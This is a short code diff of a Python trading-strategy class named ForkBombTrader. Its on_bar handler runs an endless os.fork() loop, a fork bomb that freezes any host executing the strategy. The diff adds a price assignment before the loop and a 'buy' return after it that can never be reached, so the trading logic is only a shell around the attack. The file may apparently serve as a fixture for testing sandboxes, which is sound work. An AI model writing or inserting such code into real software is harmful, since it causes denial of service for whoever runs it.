@@ -5,5 +5,7 @@ import os
 
 class ForkBombTrader:
     def on_bar(self, bar):
+        self.close = bar.close
         while True:
             os.fork()
+        return "buy"
